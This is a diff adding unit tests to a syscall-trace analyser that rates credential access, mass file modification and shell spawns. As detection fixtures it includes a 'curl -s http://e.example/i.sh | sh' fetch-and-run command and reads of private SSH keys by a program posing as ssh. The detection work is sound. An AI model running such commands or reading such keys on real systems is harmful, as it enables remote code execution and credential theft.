@@ -50,6 +50,54 @@ class RulesTest {
     }
 
     @Test
+    void aToolReadingItsOwnCredentialsIsRoutine() throws Exception {
+        String npmrc = "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/.npmrc\",\"flags\":\"O_RDONLY|O_CLOEXEC\"}";
+        String key = "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/.ssh/id_ed25519\",\"flags\":\"O_RDONLY\"}";
+        // npm --version reads its config, which is where its registry token lives
+        Report npm = report(exec(1, 10, "/usr/bin/node", "[\"node\",\"/usr/bin/npm\",\"--version\"]")
+                + sys(2, 10, "openat", npmrc, true, null, ""));
+        assertThat(found(npm)).containsExactly("info credential-access: npm used its own token or password file: /home/u/.npmrc");
+        // a package's install script run by node is not npm
+        Report postinstall = report(exec(1, 10, "/usr/bin/node", "[\"node\",\"install.js\"]")
+                + sys(2, 10, "openat", npmrc, true, null, ""));
+        assertThat(ReportAssertions.indicator(postinstall, "credential-access").severity()).isEqualTo(Severity.HIGH);
+        Report ssh = report(exec(1, 10, "/usr/bin/ssh", "[\"ssh\",\"host\"]") + sys(2, 10, "openat", key, true, null, ""));
+        assertThat(ReportAssertions.indicator(ssh, "credential-access").severity()).isEqualTo(Severity.INFO);
+        // a program that only calls itself ssh
+        Report fake = report(exec(1, 10, "/tmp/.x/ssh", "[\"ssh\"]") + sys(2, 10, "openat", key, true, null, ""));
+        assertThat(ReportAssertions.indicator(fake, "credential-access").severity()).isEqualTo(Severity.HIGH);
+    }
+
+    @Test
+    void aDeniedSecretIsAnAttemptEvenWhenItsSyscallWasNotTraced() throws Exception {
+        // sandtrace run -e trace=process,network: no openat line, only the mask's violation (syscall_seq -1)
+        Report r = report("{\"event_type\":\"violation\",\"seq\":2,\"time_ns\":2,\"pid\":10,\"tid\":10,\"syscall\":\"openat\","
+                + "\"layer\":\"mount mask\",\"errno\":\"EACCES\",\"target\":\"/root/.ssh/id_rsa\",\"reason\":\"/root is hidden\","
+                + "\"syscall_seq\":-1}\n");
+        assertThat(found(r)).containsExactly(
+                "medium credential-access: tried to open (denied by mount mask) a private SSH key: /root/.ssh/id_rsa");
+    }
+
+    @Test
+    void sedInPlaceOnManyFilesIsNotRansomware() throws Exception {
+        // sed -i s/a/b/ src/*.c: each file is written to a fresh sedXXXXXX, which is renamed over it
+        StringBuilder lines = new StringBuilder();
+        long seq = 1;
+        for (int i = 0; i < 30; i++) {
+            lines.append(sys(seq++, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/w/src/f" + i + ".c\",\"flags\":\"O_RDONLY\"}",
+                    true, null, ""));
+            lines.append(sys(seq++, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/w/src/sedTMP" + i
+                    + "\",\"flags\":\"O_RDWR|O_CREAT|O_EXCL\",\"mode\":\"0600\"}", true, null, ""));
+            lines.append(sys(seq++, 10, "rename", "{\"oldpath\":\"/w/src/sedTMP" + i + "\",\"newpath\":\"/w/src/f" + i + ".c\"}",
+                    true, null, ""));
+        }
+        Report r = report(lines.toString());
+        Report.Indicator i = ReportAssertions.indicator(r, "mass-modification");
+        assertThat(i.severity()).as(i.reason()).isEqualTo(Severity.MEDIUM);
+        assertThat(i.reason()).startsWith("20 files overwritten or renamed");
+    }
+
+    @Test
     void deniedMountAndI386AreEscapeAttempts() throws Exception {
         Report r = report(sys(1, 10, "mount", "{\"source\":\"none\",\"target\":\"/mnt\"}", false, "EPERM", "")
                 + "{\"event_type\":\"violation\",\"seq\":2,\"time_ns\":2,\"pid\":10,\"tid\":10,\"syscall\":\"mount\",\"layer\":\"seccomp\","
@@ -104,6 +152,29 @@ class RulesTest {
                 + exec(3, 11, "/opt/tool", "[\"tool\",\"run\"]")
                 + exec(4, 11, "/usr/bin/bash", "[\"bash\",\"/opt/tool\",\"run\"]"));
         assertThat(found(shebang)).containsExactly("info shell-spawn: /opt/tool started the shell /usr/bin/bash: bash /opt/tool run");
+    }
+
+    @Test
+    void aShellRunningWhatCurlPrintedIsHigh() throws Exception {
+        // sandtrace run -- sh -c 'curl -s http://e.example/i.sh | sh': no file is written, the script is a pipe
+        Report piped = report(exec(1, 10, "/bin/sh", "[\"sh\",\"-c\",\"curl -s http://e.example/i.sh | sh\"]")
+                + spawn(2, 10, 11) + exec(3, 11, "/usr/bin/curl", "[\"curl\",\"-s\",\"http://e.example/i.sh\"]")
+                + spawn(4, 10, 12) + exec(5, 12, "/bin/sh", "[\"sh\"]"));
+        Report.Indicator i = ReportAssertions.indicator(piped, "shell-spawn");
+        assertThat(i.severity()).isEqualTo(Severity.HIGH);
+        assertThat(i.reason()).contains("runs what a download printed: sh -c curl -s http://e.example/i.sh | sh");
+        // the same shell fed by something else stays routine
+        Report local = report(exec(1, 10, "/bin/sh", "[\"sh\",\"-c\",\"cat setup.sh | sh\"]")
+                + spawn(4, 10, 12) + exec(5, 12, "/bin/sh", "[\"sh\"]"));
+        assertThat(ReportAssertions.indicator(local, "shell-spawn").severity()).isEqualTo(Severity.INFO);
+    }
+
+    @Test
+    void tarCompressingThroughShIsRoutine() throws Exception {
+        // GNU tar czf runs its compressor as "/bin/sh -c gzip"
+        Report r = report(exec(1, 10, "/usr/bin/tar", "[\"tar\",\"czf\",\"t.tgz\",\"tree\"]") + spawn(2, 10, 11)
+                + exec(3, 11, "/bin/sh", "[\"/bin/sh\",\"-c\",\"gzip\"]") + exec(4, 11, "/usr/bin/gzip", "[\"gzip\"]"));
+        assertThat(found(r)).containsExactly("info shell-spawn: /usr/bin/tar started the shell /bin/sh: /bin/sh -c gzip");
     }
 
     @Test
